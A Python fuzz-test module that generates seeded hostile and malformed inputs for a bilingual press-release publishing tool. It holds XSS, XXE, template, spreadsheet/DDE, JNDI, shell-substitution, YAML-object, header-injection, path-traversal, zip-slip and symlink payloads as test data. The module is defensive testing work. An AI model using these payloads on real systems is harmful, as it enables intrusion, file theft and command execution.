"""Hostile and unlucky inputs, by kind. Each comes from a seed, so it is the same on every run.

Half of them are valid releases: the hostile part is in their texts, where it reaches a page, and not in
the YAML, where it would be refused.
"""

from __future__ import annotations

import base64
import codecs
import io
import json
import random
import shutil
import warnings
import zipfile
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import yaml
from PIL import Image

GOOD = """\
date: 2025-04-24
place: {en: Hong Kong, tc: 香港}
headline: {en: A headline, tc: 標題}
subheadline: {en: Below it, tc: 副題}
summary: {en: A summary of it, tc: 摘要}
photo_pack: {url: https://park.example/photos}
body:
  - {en: "A paragraph with [a link](https://park.example).[^1]", tc: "一段文字，有[連結](https://park.example)。[^1]"}
  - heading: {en: A heading, tc: 小標題}
  - quote: {speaker: lee, words: {en: Some words., tc: 一些話。}}
  - list: [{en: One, tc: 一}, {en: Two, tc: 二}]
  - table: {caption: {en: Visitors, tc: 訪客}, head: [{en: Year, tc: 年}, {en: Number, tc: 人數}], rows: [["2024", "2,700"]]}
  - image: {file: a.png, alt: {en: A plan, tc: 平面圖}}
footnotes: [{en: A note., tc: 註釋。}]
photos: [{file: a.png, caption: {en: Caption., tc: 圖說。}, alt: {en: A room, tc: 房間}, credit: {en: Somebody, tc: 某人}, taken: 2025-04-01}]
links: [{kind: attachment, file: b.txt, title: {en: Annex, tc: 附件}}, {kind: web, url: "https://park.example/a", title: {en: A page, tc: 網頁}}]
notes_to_editors: [{en: A note to editors., tc: 編輯垂注。}]
contacts: [{name: {en: Press, tc: 新聞組}, phone: "+852 2000 0000", email: press@park.example}]
remarks: [For colleagues]
"""
MARKUP = [
    "<script>alert(1)</script>", "<img src=http://127.0.0.1:PORT/a onerror=alert(1)>", "{{ 7*7 }}{% include 'x' %}", "{% raw %}", "]]><x>", "</style>",
    "</title><svg onload=alert(1)>", "&#x3c;b&#x3e;", "<!--", "-->", "<![CDATA[", "javascript:alert(1)", "’ onload=’x", "” style=”background:url(http://127.0.0.1:PORT/b)”",
    "@import url(http://127.0.0.1:PORT/c)", "<?xml version=1.0?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;", "<?xpacket end='w'?>", "<w:p/>",
    "=HYPERLINK(\"http://127.0.0.1:PORT/d\")", "@SUM(1+1)", "+cmd|' /C calc'!A0", "-1+2", "=?utf-8?b?PHNjcmlwdD4=?=", "a\nBcc: spy@evil.example", "a\n\n--boundary\n", "a\n.\n",
    "INCLUDEPICTURE \"http://127.0.0.1:PORT/e\"", "\\input{/etc/passwd}", "${jndi:ldap://127.0.0.1:PORT/a}", "%s%n%x", "$(id)`id`", "../../../etc/passwd", "CON", "a/b\\c:d",
    "::error::x", "a\n::error::x", "##[error]x", "[x](https://127.0.0.1:PORT/f)", "[^1][^9]", "**a *b** c*", "![x](http://127.0.0.1:PORT/g)", "[a](javascript:alert(1))",
]  # fmt: skip
SCHEMES = [
    "http://127.0.0.1:PORT/a", "//127.0.0.1:PORT/a", "file:///etc/passwd", "/etc/passwd", "\\\\127.0.0.1\\a", "data:text/html,x", "javascript:x",
    "http://127.0.0.1:PORT/x)[y](http://127.0.0.1:PORT/z", "ftp://127.0.0.1:PORT", "http://[::1]:PORT/", "mailto:a@b.hk?bcc=c@d.hk", "../../etc/passwd",
    "https://127.0.0.1:PORT/?a=<b>&c='d'", "https://xn--bcher-kva.example/%00", "https://a.example/" + "x" * 1500, "https://頁面.香港/科技園?q=甲#乙", "https://a.example:65536/",
    "https://a.example/%0d%0aSet-Cookie:x", "https://a.example/(a(b)c)", "HTTPS://A.EXAMPLE", "tel:+852;ext=1", "mailto:a@b.hk?subject=%0d%0abcc:c@d.hk", "https://a.example/" + "%E9%A6%99" * 100,
]  # fmt: skip
SIGNS = (
    "\x00\x07\x1b\x7f\x85\x9b\u061c\u200b\u202e\u2028\u2066\ufeff\ufffe\uffff\ud800\U000e0041\U0001f469\u200d\u3164𠮷𨋢"
)
LETTERS = "éßığΩЖאعกักหမြन्🎉👩🏽😀①㍿㊙ﬁ½²€…—　\u00a0\u0301\ufe0f𠮷𨋢㗎啲囍々〇ＡＢ１２é"
"""Legal characters that not every font has."""
PIECES = [
    "(",
    "「",
    "“",
    "[",
    "**a ",
    "*",
    "[^1]",
    "[a](",
    "1,",
    "HK$1 million ",
    "一億",
    "Mr Chan ",
    "陳大文先生",
    "2025年5月1日",
    "香",
    "A. ",
    "-",
    "&",
    "https://a.hk ",
    "\n",
    "第",
    "……",
    "x",
]
SEQUENCES = [
    "\\x1b]0;x\\a",
    "\\x1b[2J",
    "\\x9b31m",
    "\\n::error::x",
    "\\r##[error]x",
    "\\u202e",
    "\\u2028::x",
    "\\u061c",
    "\\ufeff",
]

Leaf = tuple[Any, ...]


@cache
def _good() -> str:
    return json.dumps(yaml.load(GOOD, yaml.BaseLoader))


def good() -> Any:
    """The release as data, to change."""
    return json.loads(_good())


def written(data: Any) -> str:
    """As YAML, every text in quotation marks."""
    return json.dumps(data, ensure_ascii=False, indent=1)


def leaves(data: Any, at: Leaf = ()) -> Iterator[Leaf]:
    """The place of each text."""
    if isinstance(data, str):
        yield at
        return
    for name, value in data.items() if isinstance(data, dict) else enumerate(data):
        yield from leaves(value, (*at, name))


def put(data: Any, leaf: Leaf, text: Any) -> None:
    for step in leaf[:-1]:
        data = data[step]
    data[leaf[-1]] = text


def changed(chance: random.Random, text: Callable[[str], Any]) -> Any:
    """The release with one, a few, or all texts in a language changed."""
    data = good()
    places = [leaf for leaf in leaves(data) if leaf[-1] in ("en", "tc")]
    many = chance.choice([1, 2, 5, len(places)])
    for leaf in chance.sample(places, min(many, len(places))):
        before = data
        for step in leaf:
            before = before[step]
        put(data, leaf, text(before))
    return data


# --- releases -------------------------------------------------------------------------------------


def mutated(chance: random.Random) -> str:
    """A good release with bytes, lines or signs in other places."""
    text = GOOD
    for _ in range(chance.randint(1, 3)):
        place, end = sorted(chance.choices(range(len(text)), k=2))
        piece = chance.choice(
            ["", text[place : place + 30], chance.choice(":-[]{}&*!|>'\"%@`#,?\t\n\\ ") * chance.randint(1, 3)]
        )
        text = text[:place] + piece + text[min(end, place + chance.randint(0, 20)) :]
    return text


def nudged(chance: random.Random) -> str:
    """A good release with letters inside its texts doubled, lost, or exchanged."""

    def nudge(text: str) -> str:
        signs = [*text]
        for _ in range(chance.randint(1, 4)):
            place = chance.randrange(len(signs) + 1)
            signs[place : place + chance.randint(0, 2)] = chance.choice(
                [*"()[]*_“”「」'\"\\,.:;!?&<>#%~|{}0１一-", "", "**", "[^1]", "  ", "\n", "\n\n"]
            )
        return "".join(signs)

    return written(changed(chance, nudge))


def laden(chance: random.Random) -> str:
    """Long texts, and texts of rare letters."""
    kind = chance.randrange(4)
    if kind == 0:
        data = good()
        leaf = chance.choice([leaf for leaf in leaves(data) if leaf[-1] in ("en", "tc")])
        put(data, leaf, (f"a {chance.choice(PIECES)}" * 20_000)[: chance.choice([2000, 19_999])] + "b")
        return written(data)
    if kind == 1:
        return written(changed(chance, lambda text: text + "".join(chance.choices(LETTERS, k=chance.randint(1, 60)))))
    if kind == 2:
        return written(changed(chance, lambda text: f"{text} {chance.choice(PIECES) * chance.randint(1, 60)}b"))
    number = chance.choice(
        [
            "9" * 300,
            "1e999",
            "0.0000001",
            "1,2,3,4",
            "-0",
            "９９億",
            "一百萬億億",
            "32 May 2026",
            "2026年13月45日",
            "25:61",
            "000",
            "1/0",
            "∞",
            "½",
        ]
    )
    return written(changed(chance, lambda text: f"{text} {number} HK${number} million {number}億港元"))


def built_up(chance: random.Random) -> str:
    """Legal structures, larger than anybody writes."""
    data = good()
    text = {"en": "Word", "tc": "文字"}
    many = chance.choice([30, 100])  # a table of 200 rows in two languages takes six seconds to print
    blocks: list[Callable[[], Any]] = [
        lambda: {"list": [text] * many}, lambda: {"list": [{**text, "list": [text, text]}] * (many // 3)}, lambda: {"heading": text}, lambda: "break",
        lambda: {"table": {"head": [text] * (many // 20), "rows": [["1"] * (many // 20)] * 20}}, lambda: {"table": {"head": [text, text], "rows": [["x" * 200, text]] * 9, "total": "yes"}},
        lambda: {"table": {"head": [text], "rows": [[text]] * many}}, lambda: {"quote": {"words": {"en": "Word.\n\nWord.", "tc": "字。\n\n字。"}}}, lambda: {"image": {"file": "a.png", "alt": text}},
        lambda: {**text, "only": "en"}, lambda: {"en": "x" * 3000, "tc": "香" * 3000}, lambda: text,
    ]  # fmt: skip
    data["body"] += [chance.choice(blocks)() for _ in range(chance.randint(1, 8))]
    if chance.random() < 0.3:
        data[chance.choice(["photos", "links", "contacts", "footnotes", "notes_to_editors", "remarks"])] *= (
            chance.randint(2, 30)
        )
    return written(data)


def structured(chance: random.Random) -> str:
    """Values of other kinds than they should be, deep, long, or many."""

    def value(depth: int) -> str:
        kinds: list[Callable[[], str]] = [
            lambda: "~", lambda: "''", lambda: "[]", lambda: "{}", lambda: "x" * chance.choice([1, 300, 21_000]), lambda: "0001-01-01T00:00+08:00",
            lambda: f"[{', '.join(value(depth + 1) for _ in range(chance.randint(1, 4)))}]" if depth < 40 else "x",
            lambda: f"{{en: {value(depth + 1)}, tc: {value(depth + 1)}}}" if depth < 5 else "x", lambda: "[" * chance.choice([3, 40, 3000]),
            lambda: "{a: " * chance.choice([3, 40, 3000]), lambda: f"[{'a, ' * chance.choice([10, 30_000])}]", lambda: "&a [*a, *a]", lambda: "!!python/object:os.system x",
            lambda: "1e999", lambda: "9" * 5000, lambda: "0x1F", lambda: "2026-02-30", lambda: "<<: *x", lambda: "{<<: [{en: a}]}", lambda: "? [a]", lambda: "\n--- \nx", lambda: "\n...\n",
            lambda: chance.choice("([“「*_`\\a香1") * chance.choice([100, 19_000]),
        ]  # fmt: skip
        return chance.choice(kinds)()

    names = "date headline body photos contacts embargo checks issuer issuers theme photo_pack notes_to_editors editions links corrections topics time number sc zzz"
    fields = chance.sample(names.split(), chance.randint(1, 3))
    return GOOD + "".join(
        f"{field}: {value(0)}\n" if chance.random() < 0.5 else f"{field}:\n  - {value(0)}\n" for field in fields
    )


def signs(chance: random.Random) -> str:
    """Signs that cannot be seen, steer a terminal, or are no characters, raw or as escapes."""
    text = GOOD
    for _ in range(chance.randint(1, 4)):
        place, sign = chance.randrange(len(text)), chance.choice(SIGNS)
        text = text[:place] + (sign if chance.random() < 0.5 else f'"\\u{ord(sign) & 0xFFFF:04x}"') + text[place:]
    return text


def injected(chance: random.Random) -> str:
    return written(
        changed(
            chance,
            lambda text: chance.choice(["@ {}", "{}@", "@", "{}\n@"]).format(text).replace("@", chance.choice(MARKUP)),
        )
    )


def addressed(chance: random.Random) -> str:
    """Addresses in every field that takes one, and bare in texts."""
    address = chance.choice(SCHEMES)
    data = good()
    kind = chance.randrange(4)
    if kind == 0:
        put(
            data,
            chance.choice(
                [
                    ("photo_pack", "url"),
                    ("links", 1, "url"),
                    ("contacts", 0, "email"),
                    ("contacts", 0, "phone"),
                    ("photos", 0, "file"),
                    ("links", 0, "file"),
                    ("body", 5, "image", "file"),
                ]
            ),
            address,
        )
        return written(data)
    form = ["{} see @ now", "{} [here](@)", "{} [@](@)"][kind - 1]
    return written(changed(chance, lambda text: form.format(text).replace("@", address)))


def terminal(chance: random.Random) -> str:
    sequence = chance.choice(SEQUENCES)
    return chance.choice(
        [f'{GOOD}"k{sequence}": x\n', GOOD.replace("A headline", f'"A {sequence} 5"'), f'{GOOD}theme: "t{sequence}"\n', f'{GOOD}issuer: "i{sequence}"\n', GOOD.replace("b.txt", f'"b{sequence}.txt"'),
         GOOD.replace("a.png", f'"p{sequence}.png"', 1), f'{GOOD}checks: {{ignore: [{{code: "c{sequence}", at: x, reason: y}}]}}\n', f"# {sequence}\n{GOOD}",
         f"# {codecs.decode(sequence, 'unicode_escape').strip()}\n{GOOD}"]
    )  # fmt: skip


def pictured(chance: random.Random) -> bytes:
    """A picture that is cut off, damaged or of an odd kind, or no picture at all."""
    image = Image.effect_noise((chance.randint(1, 80), chance.randint(1, 80)), 80).convert(
        chance.choice(["L", "LA", "RGB", "RGBA", "P", "I;16", "CMYK", "1", "YCbCr"])
    )
    kinds = {
        "CMYK": ["JPEG", "JPEG", "TIFF"],
        "YCbCr": ["JPEG"],
        "1": ["PNG", "BMP"],
        "I;16": ["PNG"],
        "LA": ["PNG"],
        "RGBA": ["PNG", "WEBP"],
        "P": ["PNG", "GIF"],
    }
    buffer = io.BytesIO()
    more: dict[str, Any] = {"icc_profile": bytes(chance.choices(range(256), k=200))} if chance.random() < 0.3 else {}
    if chance.random() < 0.3:
        more["exif"] = b"Exif\0\0MM\0*" + bytes(chance.choices(range(256), k=60))
    kind = chance.choice(kinds.get(image.mode, ["PNG", "JPEG", "WEBP", "GIF"]))
    if kind == "GIF" and chance.random() < 0.5:
        more = {"save_all": True, "append_images": [image] * 3}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # Pillow reads the EXIF that it is to write
        image.save(buffer, kind, **more)
    data = bytearray(buffer.getvalue())
    for _ in range(chance.choice([0, 0, 0, 0, 1, 5, 50])):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data[: chance.choice([None] * 6 + [len(data) // 2, 20, 0])])


LINKS = [
    ("releases/y", "y"), ("releases/y", "/usr/share"), ("releases/x/more", ".."), ("releases/x/a.png", "a.png"), ("releases/_shared", "/etc"), ("build/x", "/nowhere"),
    ("build/.hkpress", "/nowhere"), ("releases/_shared", "_shared"), ("templates", "/etc"), ("releases/x/release.yaml", "/etc/passwd"), ("releases/x/a.png", "/etc/passwd"),
    ("releases/x/b.txt", "../../../secret.txt"), ("releases/x/b.txt", "/dev/zero"), ("hkpress.toml", "/etc/passwd"), ("releases/z", "x"), (".hkpress", "/nowhere"), ("golden", "golden"),
]  # fmt: skip
TEXTS = {
    "yaml": mutated, "nudged": nudged, "laden": laden, "built up": built_up, "structure": structured, "signs": signs, "markup": injected, "address": addressed, "terminal": terminal,
}  # fmt: skip

# --- documents to import --------------------------------------------------------------------------

LINES = [
    "PRESS RELEASE",
    "24 April 2025",
    "A headline",
    "標題",
    "(Hong Kong, 24 April 2025) A paragraph of it.",
    "（香港，2025年4月24日）一段文字。",
    "“Words,” said Mary Lee.",
    "「話。」李美儀說。",
    "– End –",
    "- 完 -",
    "About us",
    "關於我們",
    "Media contact: Ann, 2000 0000, a@b.example",
]
ENTITIES = '<!DOCTYPE a [<!ENTITY b "{}"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d SYSTEM "file:///etc/passwd"><!ENTITY e SYSTEM "http://127.0.0.1:PORT/x">]>'


def _lines(chance: random.Random, port: int) -> list[str]:
    lines = [line for line in LINES if chance.random() < 0.9]
    for _ in range(chance.randint(0, 4)):
        hostile = chance.choice(
            [
                chance.choice(MARKUP).replace("PORT", str(port)),
                chance.choice(PIECES) * chance.choice([5, 3000]),
                "".join(chance.choices(LETTERS, k=30)),
                chr(chance.choice([0, 7, 27, 0x9B, 0x202E, 0xFFFE, 0xD800])),
            ]
        )
        lines.insert(chance.randrange(len(lines) + 1), hostile)
    return lines


def word(chance: random.Random, port: int) -> bytes:
    """A Word file, or a file that claims to be one."""
    from docx import Document

    made = Document()
    for line in _lines(chance, port):
        made.add_paragraph(
            "".join(
                each for each in line if each >= " " and not "\ud800" <= each <= "\udfff" and each not in "\ufffe\uffff"
            )
        )
    buffer = io.BytesIO()
    made.save(buffer)
    bent = chance.randrange(7)
    if bent == 0:
        return buffer.getvalue()
    if bent == 1:
        data = bytearray(buffer.getvalue())
        for _ in range(chance.randint(1, 30)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        return bytes(data[: chance.choice([None, len(data) // 2])])
    parts = {}
    with zipfile.ZipFile(buffer) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    document = parts["word/document.xml"].decode()
    head, body = document.split("?>", 1)
    if bent == 2:
        document = f"{head}?>{ENTITIES.format('b' * 50)}{body.replace('<w:t>', '<w:t>&c;&d;&e;')}"
    elif bent == 3:
        document = document.replace("<w:p>", "<w:tbl><w:tr><w:tc><w:p>" * chance.choice([1, 50, 3000]), 1)
    elif bent == 4:
        parts["../../evil.txt"] = parts["word/media/../../x"] = b"x"
        parts["word/zeros.bin"] = bytes(20_000_000)
    elif bent == 5:
        document = document.replace(
            "<w:p>",
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\x "y"</w:instrText></w:r>'
            + '<w:hyperlink r:id="rId999"><w:r><w:t>x</w:t></w:r></w:hyperlink>',
        )
    else:
        del parts[chance.choice([*parts])]
    if "word/document.xml" in parts:
        parts["word/document.xml"] = document.replace("PORT", str(port)).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return out.getvalue()


def document(chance: random.Random, port: int) -> tuple[str, bytes]:
    """A file to import, and its name."""
    kind = chance.choice(["docx", "docx", "txt", "eml", "html"])
    name = chance.choice(["a", "釋稿", "../../a", "\x1b]0;x", "a\nb", ".", "a" * 200, "-x", "::error::"]) + f".{kind}"
    if kind == "docx":
        return name, word(chance, port)
    lines = _lines(chance, port)
    if kind == "txt":
        coding = chance.choice(["utf-8", "utf-16", "utf-8-sig", "gb18030", "big5", "latin-1", "utf-32", "utf-16-be"])
        return name, chance.choice(["\n", "\r\n", "\r", "\n\n"]).join(lines).encode(
            coding, "surrogatepass" if "utf" in coding else "replace"
        )
    if kind == "html":
        inner = chance.choice(
            [
                "<p>",
                "<div>" * 3000,
                "<table><tr><td>",
                "<svg><p>",
                "<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/'><p>",
                "<script src=http://127.0.0.1:PORT/x></script><p>",
                "<b><i><p>" * 100,
            ]
        )
        return name, (ENTITIES.format("x") + f"<html>{inner}" + f"{inner[:9]}".join(lines)).replace(
            "PORT", str(port)
        ).encode("utf-8", "replace")
    body = "\n\n".join(lines).encode("utf-8", "replace")
    coding = chance.choice(["8bit", "base64", "quoted-printable", "x-nothing"])
    sent = base64.encodebytes(body) if coding == "base64" else body
    kind = chance.choice(
        [
            "text/plain; charset=utf-8",
            "text/plain; charset=nothing",
            "text/html",
            "multipart/mixed; boundary=b",
            "message/rfc822",
            "application/x",
        ]
    )
    parts = (
        b"--b\nContent-Type: multipart/mixed; boundary=b\n\n" * chance.choice([0, 1, 500])
        if "multipart" in kind
        else b""
    )
    head = f"From: a@b.example\nSubject: {chance.choice(['=?utf-8?b?PHNjcmlwdD4=?=', 'x', '=?nothing?q?x?=', 'x' * 3000])}\nMIME-Version: 1.0\nContent-Type: {kind}\nContent-Transfer-Encoding: {coding}\n\n"
    return name, head.encode() + parts + sent


# --- requests to the desk -------------------------------------------------------------------------


def request(chance: random.Random, port: int) -> tuple[str, str, bytes]:
    """Method, path below /api/ and body of a request to the desk."""
    one = f"releases/{chance.choice(['x'] * 9 + ['..', '_shared', 'x/../x', '%00', 'nothing'])}"
    kind = chance.randrange(10)
    if kind < 6:
        data = good()
        places = list(leaves(data))
        changes = []
        for leaf in chance.sample(places, chance.randint(1, 4)):
            text = chance.choice(
                [
                    chance.choice(MARKUP),
                    chance.choice(SCHEMES),
                    chance.choice(SIGNS),
                    chance.choice(PIECES) * chance.choice([9, 6000]),
                    "".join(chance.choices(LETTERS, k=20)),
                    None,
                    [],
                    {"en": "x"},
                    "",
                    " ",
                    "a: b # c",
                    "- x",
                    "|-\n x",
                    "&a *b !c",
                ]
            )
            changes.append(
                {
                    "do": chance.choice(["write"] * 5 + ["remove", "insert", "move"]),
                    "loc": leaf,
                    "value": text,
                    "to": chance.choice([0, 1, 999]),
                }
            )
        body = (
            json.dumps({"changes": changes, "edition": "tc", "look": chance.choice(["web", "text", ""])})
            .replace("PORT", str(port))
            .encode()
        )
        if kind == 5:
            bent = bytearray(body)
            for _ in range(3):
                bent[chance.randrange(len(bent))] = chance.randrange(256)
            body = bytes(bent)
        return "POST", f"{one}/changes", body
    if kind == 6:
        name, data_sent = document(chance, port)
        return (
            "POST",
            "import",
            json.dumps({"files": [{"name": name, "data": base64.b64encode(data_sent).decode()}]}).encode(),
        )
    if kind == 7:
        return "POST", f"{one}/photos", pictured(chance)
    if kind == 8:
        asked = {
            "en": chance.choice(MARKUP),
            "tc": chance.choice(LETTERS),
            "date": chance.choice(["2026-11-27", "2026-02-30", "x", "9999-12-31"]),
            "like": chance.choice(["", "x", "..", "../../etc"]),
            "issuer": chance.choice(["", "../x", "\x1b"]),
        }
        return "POST", "releases", json.dumps(asked).encode()
    path = chance.choice(
        [
            "look?edition=tc&look=web",
            "look?edition=../x&look=text",
            "findings?lang=\x1b",
            "versions/..%2f..%2fx",
            "state",
            "paper?edition=xx",
            "actions/rm%20-rf",
            "nothing",
            "look?edition=" + "x" * 3000,
        ]
    )
    return "GET", f"{one}/{path}", b""


def laid_out(root: Path, kind: str, chance: random.Random, port: int) -> None:
    """A project with one release of this kind, and a secret file beside the project."""
    from tests.park import picture

    folder = root / "releases/x"
    folder.mkdir(parents=True)
    (root.parent / "secret.txt").write_text("top-secret")
    text = TEXTS[kind](chance) if kind in TEXTS else injected(chance) if kind == "newsroom" else GOOD
    (folder / "release.yaml").write_bytes(text.replace("PORT", str(port)).encode("utf-8", "surrogatepass"))
    (folder / "a.png").write_bytes(pictured(chance) if kind == "picture" else picture())
    (folder / "b.txt").write_text("An annex.")
    shared = root / "releases/_shared"
    shared.mkdir()
    (shared / "people.yaml").write_text(
        "lee: {name: {en: Mary Lee, tc: 李美儀}, post: {en: Director, tc: 總監}}\n", "utf-8"
    )
    (root / "hkpress.toml").write_text('[newsroom]\nurl = "https://news.example.org"\n')
    if kind == "link":
        name, target = chance.choice(LINKS)
        path = root / name
        path.parent.mkdir(exist_ok=True, parents=True)
        shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
        path.symlink_to(target)
